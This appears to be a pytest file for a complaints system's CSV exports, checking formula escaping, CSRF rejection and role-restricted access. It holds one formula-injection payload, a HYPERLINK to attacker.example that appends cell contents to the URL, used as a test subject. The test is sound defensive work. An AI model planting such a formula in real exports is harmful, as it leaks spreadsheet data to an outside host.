"""Reports and lists as CSV: `complaints list --format csv`, the console's downloads of the
queue and of a report's figures, and a customer's data from the console's data-requests
page; every text cell a spreadsheet would run as a formula is escaped. Through the real
parts: the Temporal dev server (visibility), the worker, PostgreSQL, the app on a socket."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
import uuid
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal
from typing import Any

import pytest
import pytest_asyncio

from reporting.spreadsheet import csv_text
from starter.listing import ComplaintSummary
from tests.cli_runner import Cli
from tests.conftest import ComplaintStack
from tests.console_stack import Console, console_on, signed_in, token

INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cells_a_spreadsheet_would_run_are_escaped_and_numbers_are_not():
    text = csv_text(["a", "b", "c"], [["=1+2", "+44 20 7946 0002", -3],
                                      ["@SUM(A1)", "-x", "plain"],
                                      [None, True, Decimal("-5.00")],
                                      ["\tTAB", "a=b", "it's"]])
    assert rows_of(text) == [["a", "b", "c"], ["'=1+2", "'+44 20 7946 0002", "-3"],
                             ["'@SUM(A1)", "'-x", "plain"], ["", "True", "-5.00"],
                             ["'\tTAB", "a=b", "it's"]]


@pytest_asyncio.fixture
async def console(local_stack: ComplaintStack) -> AsyncIterator[Console]:
    async with console_on(local_stack) as console:
        yield console


@pytest.fixture
def cli_env(local_stack: ComplaintStack, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEMPORAL_ADDRESS",
                       local_stack.env.client.service_client.config.target_host)
    monkeypatch.setenv("DATABASE_URL", local_stack.settings.database_url)


async def _eventually(check, what: str, timeout: float = 20.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        found = await check()
        if found:
            return found
        if time.monotonic() > deadline:
            raise AssertionError(f"never: {what}")
        await asyncio.sleep(0.3)


async def test_the_list_the_queue_and_a_report_download_as_csv(
        console: Console, cli_env: None, capsys: Any):
    stack = console.stack
    customer = f"=cust-{uuid.uuid4().hex[:8]}"  # a customer id a spreadsheet would run
    crn = (await stack.submit(customer={"id": customer, "name": "@Eve Formula",
                                        "email": "eve@formula.example"},
                              subject=INJECTED)).crn
    cli = Cli(capsys)

    async def listed() -> list[list[str]] | None:
        code, out, err = await cli("list", "--customer", customer, "--format", "csv")
        assert code == 0, err
        rows = rows_of(out)
        return rows if len(rows) == 2 else None

    header, row = await _eventually(listed, f"{crn} in `complaints list`")
    assert header == list(ComplaintSummary.model_fields)
    line = dict(zip(header, row, strict=True))
    assert (line["crn"], line["customer_id"]) == (crn, "'" + customer)
    code, _, err = await cli("list", "--json", "--format", "csv")
    assert code == 2 and "give one of them" in err

    async with signed_in(console, "helen") as http:
        page = await http.get("/console/", params={"customer": customer})
        assert f'href="/console/queue.csv?customer={customer.replace("=", "%3D")}"' \
            in page.text
        async def downloaded() -> Any:
            got = await http.get("/console/queue.csv", params={"customer": customer})
            assert got.status_code == 200, got.text
            rows = rows_of(got.text)
            return got if len(rows) == 2 and rows[1][-2] else None  # the subject is in
        got = await _eventually(downloaded, f"{crn} in the queue's CSV")
        assert got.headers["content-type"] == "text/csv; charset=utf-8"
        assert got.headers["content-disposition"] == 'attachment; filename="queue.csv"'
        header, row = rows_of(got.text)
        line = dict(zip(header, row, strict=True))
        assert header[-2:] == ["subject", "customer_name"]
        assert (line["crn"], line["subject"], line["customer_name"], line["customer_id"]) == (
            crn, "'" + INJECTED, "'@Eve Formula", "'" + customer)

        report = await http.get("/console/reports/weekly.csv", params={"period": "last"})
        assert report.status_code == 200, report.text
        assert report.headers["content-type"] == "text/csv; charset=utf-8"
        assert report.headers["content-disposition"].startswith(
            'attachment; filename="weekly-')
        code, out, err = await cli("report", "weekly", "--period", "last", "--format", "csv")
        assert code == 0, err
        assert report.text == out  # the same figures as the command line's
        assert rows_of(report.text)[0] == ["section", "name", "value"]
        page = await http.get("/console/reports")
        assert 'href="/console/reports/weekly.csv?period=last"' in page.text
    async with signed_in(console, "ana") as http:
        refused = await http.get("/console/reports/weekly.csv")
        assert refused.status_code == 403 and "is for the head of cs" in refused.text
        assert "text/csv" not in refused.headers["content-type"]


async def test_the_head_of_customer_success_exports_a_customers_data_from_the_console(
        console: Console):
    stack = console.stack
    crn = (await stack.submit(customer={"id": "cust-kite", "name": "Jon Kite",
                                        "email": "kite@kite.example"})).crn
    await _eventually(lambda: stack.rows("SELECT 1 FROM complaints WHERE crn = $1", crn),
                      "the complaint's row")
    async with signed_in(console, "helen") as http:
        page = await http.get("/console/data-requests")
        assert page.status_code == 200 and "Export their data" in page.text
        csrf = token(page.text)
        unknown = await http.post("/console/data-requests/export", data={
            "csrf_token": csrf, "customer_id": "cust-nobody"})
        assert unknown.status_code == 404 and "nothing was exported" in unknown.text
        got = await http.post("/console/data-requests/export", data={
            "csrf_token": csrf, "customer_id": "cust-kite"})
        assert got.status_code == 200, got.text
        assert got.headers["content-type"] == "application/zip"
        assert got.headers["content-disposition"].startswith(
            'attachment; filename="customer-export-')
        with zipfile.ZipFile(io.BytesIO(got.content)) as z:
            doc = json.loads(z.read("customer.json"))
        assert [c["crn"] for c in doc["complaints"]] == [crn]
        assert doc["profile"]["email"] == "kite@kite.example"
        forged = await http.post("/console/data-requests/export", data={
            "csrf_token": "not-this-sessions", "customer_id": "cust-kite"})
        assert forged.status_code == 403
    records = await stack.rows("SELECT customer_id, exported_by, complaints FROM exports")
    assert [tuple(r) for r in records] == [("cust-kite", "helen", [crn])]
    async with signed_in(console, "ana") as http:
        refused = await http.get("/console/data-requests")
        assert refused.status_code == 403 and "is for the head of cs" in refused.text
        nav = await http.get("/console/")
        assert "/console/data-requests" not in nav.text
